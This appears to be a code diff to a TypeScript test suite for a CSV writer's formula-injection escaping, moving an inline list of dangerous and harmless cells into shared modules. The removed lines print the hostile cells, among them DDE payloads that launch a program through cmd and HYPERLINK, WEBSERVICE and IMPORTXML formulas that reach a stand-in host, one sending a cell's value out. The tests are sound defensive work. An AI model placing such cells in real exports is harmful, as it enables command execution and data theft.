@@ -1,5 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { runs } from '@/lib/testing/bad-inputs/catalog';
+import { DANGEROUS_CELLS, HARMLESS_CELLS } from '@/lib/testing/bad-inputs/csv-cells';
 import { csvCell, csvRow, looksLikeFormula } from './csv';
 
 /** A strict reader of RFC 4180, written apart from the writer. Unquoted and empty is null. */
@@ -32,62 +34,16 @@ function readCsv(text: string): (string | null)[][] {
 
 const unmarked = (cell: string | null | undefined) => (cell?.startsWith("'") ? cell.slice(1) : cell);
 
-// D13: what a spreadsheet could run, reach out with, or fall apart on.
-const DANGEROUS: [string, string][] = [
-  ['a formula', '=1+1'],
-  ['a plus', '+1+1'],
-  ['a minus', '-1+1'],
-  ['an at sign', '@SUM(A1)'],
-  ['DDE by formula', `=cmd|' /C calc'!A0`],
-  ['DDE by plus', `+cmd|' /C calc'!A0`],
-  ['DDE by at', `@cmd|' /C calc'!A0`],
-  ['DDE bare', `|cmd' /C calc'!A0`],
-  ['a per cent command', '%0A=1'],
-  ['a link', '=HYPERLINK("https://evil.test?x="&A1,"Click")'],
-  ['a web service', '=WEBSERVICE("https://evil.test")'],
-  ['an import', '=IMPORTXML("https://evil.test","//a")'],
-  ['tab first', '\t=1+1'],
-  ['carriage return first', '\r=1+1'],
-  ['line feed first', '\n=1+1'],
-  ['NUL first', '\u0000=1+1'],
-  ['tab and harmless', '\tx'],
-  ['space first', ' =1+1'],
-  ['no-break space first', '\u00a0=1+1'],
-  ['zero-width space first', '\u200b=1+1'],
-  ['byte order mark first', '\ufeff=1+1'],
-  ['right-to-left override first', '\u202e=1+1'],
-  ['full-width equals', '\uff1d1+1'],
-  ['full-width plus', '\uff0b1'],
-  ['full-width minus', '\uff0d1'],
-  ['full-width at', '\uff20SUM(A1)'],
-  ['small equals', '\ufe661+1'],
-  ['mathematical minus', '\u22121+1'],
-  ['superscript plus', '\u207a1'],
-  ['nothing but a sign', '='],
-];
-const HARMLESS = [
-  '',
-  'Deployed backend to production.',
-  '1,234',
-  'a=b',
-  'mail@team.dev',
-  'two\r\nlines',
-  'say "hi"',
-  ';x',
-  'ä',
-  '🚀=1',
-];
-
 describe('CSV that no spreadsheet runs', () => {
-  test('there are thirty cases', () => expect(DANGEROUS).toHaveLength(30));
+  test('there are thirty cases', () => expect(DANGEROUS_CELLS).toHaveLength(30));
 
-  test.each(DANGEROUS)('%s is text', (_name, text) => {
+  test.each(DANGEROUS_CELLS)('%s is text', (_name, text) => {
     const cell = csvCell(text);
     expect(cell.startsWith(`"'`)).toBe(true);
     expect(unmarked(readCsv(csvRow([text, 'next']))[0]?.[0])).toBe(text);
   });
 
-  test.each(HARMLESS)('%j is left as it is', (text) => {
+  test.each(HARMLESS_CELLS)('%j is left as it is', (text) => {
     expect(looksLikeFormula(text)).toBe(false);
     expect(readCsv(csvRow([text]))).toEqual([[text]]);
   });
@@ -97,7 +53,7 @@ describe('CSV that no spreadsheet runs', () => {
     expect(readCsv(csvRow([null, '', null]))).toEqual([[null, '', null]]);
   });
 
-  test('5,000 generated rows: each cell comes back, and none begins like a formula', () => {
+  test('generated rows: each cell comes back, and none begins like a formula', () => {
     const nasty = fc.constantFrom(...'=+-@\t\r\n\u0000",;|%\'\uff1d\uff0b\uff0d\uff20\u200b\ufeff\u00a0 a1é😀');
     const text = fc.oneof(
       fc.array(nasty, { maxLength: 12 }).map((parts) => parts.join('')),
@@ -116,7 +72,7 @@ describe('CSV that no spreadsheet runs', () => {
             expect('\t\r\n\u0000').not.toContain(cell[0] ?? 'x');
           }
       }),
-      { numRuns: 5_000 },
+      { numRuns: runs('D13') },
     );
   });
 });
